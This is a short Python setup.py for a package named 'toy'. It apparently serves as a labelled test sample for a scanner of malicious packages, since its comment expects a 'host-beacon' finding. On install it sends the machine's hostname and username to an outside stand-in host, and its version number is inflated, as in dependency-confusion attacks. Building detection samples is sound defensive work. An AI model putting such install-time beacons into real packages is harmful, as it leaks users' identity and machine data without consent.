import getpass
import socket
import requests
from setuptools import setup

requests.get("https://example.invalid/", params={"h": socket.gethostname(), "u": getpass.getuser()})  # expect: source/host-beacon install conclusive
setup(name="toy", version="99.9.9")
